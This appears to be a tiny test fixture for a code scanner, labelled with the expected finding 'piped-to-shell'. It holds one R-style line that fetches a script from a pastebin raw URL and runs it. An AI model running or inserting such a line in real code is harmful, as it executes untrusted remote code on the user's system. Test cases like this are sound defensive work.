# expect: piped-to-shell | source: T1102
source(url("https://pastebin.com/raw/Look0000"))
